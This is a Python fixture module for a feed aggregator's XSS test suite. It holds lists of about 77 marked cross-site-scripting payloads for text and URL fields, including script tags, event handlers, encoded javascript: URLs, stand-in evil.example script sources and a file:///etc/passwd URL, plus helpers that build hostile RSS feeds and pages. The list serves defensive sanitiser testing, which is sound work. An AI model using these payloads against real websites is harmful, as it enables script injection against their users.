"""Hostile strings for issue 6's XSS case, written for this project (no third-party list).

``MARKUP`` are payloads meant for text fields (titles, summaries, content, authors, page text):
script elements, event attributes, SVG/MathML, forms, CSS expressions, meta refresh, template
injection, attribute break-outs. ``URLS`` are payloads meant for URL fields (links, enclosures,
canonical links): ``javascript:`` in its encodings, ``data:``, ``vbscript:``, protocol-relative
and backslash tricks. Every payload carries the marker ``XSS`` so a test can find where it went.
"""

from __future__ import annotations

MARKUP: list[str] = [
    "<script>alert('XSS1')</script>",
    "<SCRIPT SRC=//evil.example/XSS2.js></SCRIPT>",
    "<script>/*XSS3*/</script><p>after</p>",
    "<img src=x onerror=alert('XSS4')>",
    "<IMG SRC=\"javascript:alert('XSS5');\">",
    "<img src=`javascript:alert('XSS6')`>",
    "<img \"\"\"><script>alert('XSS7')</script>\">",
    "<body onload=alert('XSS8')>",
    "<svg onload=alert('XSS9')>",
    "<svg><script>alert('XSS10')</script></svg>",
    "<svg><a xlink:href=\"javascript:alert('XSS11')\"><text x=1 y=1>XSS11</text></a></svg>",
    "<svg><animate onbegin=alert('XSS12') attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('XSS13')></style></mglyph>",
    "<iframe src=\"javascript:alert('XSS14')\"></iframe>",
    "<iframe srcdoc=\"<script>alert('XSS15')</script>\"></iframe>",
    "<object data=\"javascript:alert('XSS16')\"></object>",
    "<embed src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTMTcnKTwvc2NyaXB0Pg==\">",
    "<form action=\"javascript:alert('XSS18')\"><input type=submit></form>",
    "<form><button formaction=\"javascript:alert('XSS19')\">XSS19</button></form>",
    "<a href=\"javascript:alert('XSS20')\">XSS20</a>",
    "<a href=\"&#106;avascript:alert('XSS21')\">XSS21</a>",
    "<a href=\"&#x6A;&#x61;&#x76;&#x61;script:alert('XSS22')\">XSS22</a>",
    "<a href=\"jav&#x09;ascript:alert('XSS23')\">XSS23</a>",
    "<a href=\" javascript:alert('XSS24')\">XSS24</a>",
    "<a href=\"data:text/html,<script>alert('XSS25')</script>\">XSS25</a>",
    "<div style=\"width: expression(alert('XSS26'))\">XSS26</div>",
    "<div style=\"background:url(javascript:alert('XSS27'))\">XSS27</div>",
    "<style>@import 'javascript:alert(\"XSS28\")';</style>",
    "<style>body{background:url(\"data:image/svg+xml,<svg onload=alert('XSS29')>\")}</style>",
    "<link rel=stylesheet href=\"javascript:alert('XSS30')\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('XSS31')\">",
    "<base href=\"javascript:alert('XSS32')//\">",
    "<details open ontoggle=alert('XSS33')>",
    "<video><source onerror=alert('XSS34')></video>",
    "<audio src=x onerror=alert('XSS35')>",
    "<marquee onstart=alert('XSS36')>XSS36</marquee>",
    "<input autofocus onfocus=alert('XSS37')>",
    "<select onfocus=alert('XSS38') autofocus>",
    "<textarea onfocus=alert('XSS39') autofocus>",
    "<keygen autofocus onfocus=alert('XSS40')>",
    "\"><script>alert('XSS41')</script>",
    "'><img src=x onerror=alert('XSS42')>",
    "</title><script>alert('XSS43')</script>",
    "</textarea><script>alert('XSS44')</script>",
    "<!--<img src=\"--><img src=x onerror=alert('XSS45')//\">",
    "<![CDATA[<script>alert('XSS46')</script>]]>",
    "{{7*7}}XSS47{{constructor.constructor('alert(1)')()}}",
    "${alert('XSS48')}",
    "<scr<script>ipt>alert('XSS49')</scr</script>ipt>",
    "&lt;script&gt;alert('XSS50')&lt;/script&gt;",
    "&#60;script&#62;alert('XSS51')&#60;/script&#62;",
    "<isindex type=image src=1 onerror=alert('XSS52')>",
    "<table background=\"javascript:alert('XSS53')\">",
    "<xss id=x tabindex=1 onfocusin=alert('XSS54')></xss>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('XSS55')>\">",
    "<template><script>alert('XSS56')</script></template>",
    "\u202e<script>alert('XSS57')</script>\x00\x07",
    "<a href=\"https://ok.example/\" onclick=\"alert('XSS58')\">XSS58</a>",
]

URLS: list[str] = [
    "javascript:alert('XSS-U1')",
    "JaVaScRiPt:alert('XSS-U2')",
    "  javascript:alert('XSS-U3')",
    "java\tscript:alert('XSS-U4')",
    "java\nscript:alert('XSS-U5')",
    "&#106;avascript:alert('XSS-U6')",
    "&#x6A;avascript:alert('XSS-U7')",
    "javascript&colon;alert('XSS-U8')",
    "%6Aavascript:alert('XSS-U9')",
    "data:text/html,<script>alert('XSS-U10')</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4=#XSS-U11",
    "vbscript:msgbox('XSS-U12')",
    "//evil.example/XSS-U13",
    "https:\\\\evil.example/XSS-U14",
    "\\\\evil.example\\XSS-U15",
    "file:///etc/passwd#XSS-U16",
    "feed:javascript:alert('XSS-U17')",
    "https://ok.example/\"><script>alert('XSS-U18')</script>",
    "https://ok.example/' onmouseover='alert(\"XSS-U19\")",
]

ALL = MARKUP + URLS


# --------------------------------------------------------------------------- loopback setup
# The hostile suites share one network layout (issue 6): the servers under test listen on
# ALLOWED (the only allow-listed address), the canary on CANARY, which must never see a request.

ALLOWED = "127.0.0.2"
CANARY = "127.0.0.3"


def hostile_settings(db_path, **kw):
    import ipaddress

    from aggregator.settings import Settings

    base = {
        "db_url": f"sqlite:///{db_path}",
        "allow_networks": (ipaddress.ip_network(f"{ALLOWED}/32"),),
        "host_spacing": 0.0,
        "host_concurrency": 4,
        "fetch_deadline": 5.0,
        "connect_timeout": 2.0,
        "extract_workers": 0,  # in-process extraction unless a test is about the worker pool
    }
    base.update(kw)
    return Settings(**base)


def services(settings, **kw):
    from aggregator.extract import ExtractorPool
    from aggregator.pipeline import Services

    if "extractor" not in kw:
        kw["extractor"] = ExtractorPool(settings.extract_workers, settings.extract_deadline)
    return Services(settings, **kw)


def xml_escape(text: str, quote: bool = True) -> str:
    from xml.sax.saxutils import escape

    return escape(text, {'"': "&quot;"} if quote else {})


def rss(items, title: str = "Hostile feed", extra_ns: str = "") -> bytes:
    """RSS 2.0 from dicts with already-escaped XML fragments: guid, link, title, description,
    author, pubdate, extra (raw XML inserted in the item)."""
    out = ['<?xml version="1.0" encoding="utf-8"?>',
           '<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" '
           f'xmlns:dc="http://purl.org/dc/elements/1.1/" {extra_ns}><channel>',
           f"<title>{title}</title><link>https://news.example/</link>"]
    for it in items:
        out.append("<item>")
        for key, tag in (("guid", "guid"), ("link", "link"), ("title", "title"),
                         ("description", "description"), ("author", "author"),
                         ("pubdate", "pubDate")):
            if it.get(key) is not None:
                out.append(f"<{tag}>{it[key]}</{tag}>")
        out.append(it.get("extra", ""))
        out.append("</item>")
    out.append("</channel></rss>")
    return "\n".join(out).encode("utf-8")


def article_page(title: str, paragraphs: list[str], head: str = "") -> bytes:
    body = "".join(f"<p>{p}</p>" for p in paragraphs)
    return (f"<!doctype html><html><head><title>{title}</title>{head}</head><body>"
            "<nav><a href='/'>Home</a></nav><article>"
            f"<h1>{title}</h1>{body}</article><footer>Copyright</footer></body></html>").encode()


FILLER = (
    "City officials said on Tuesday that the new bridge over the river would open next spring, "
    "after two years of delays caused by flooding and a shortage of steel beams for the deck. "
    "The project, which cost more than forty million dollars, was paid for by a state grant and "
    "a local bond measure that voters approved by a wide margin three years ago this month."
)
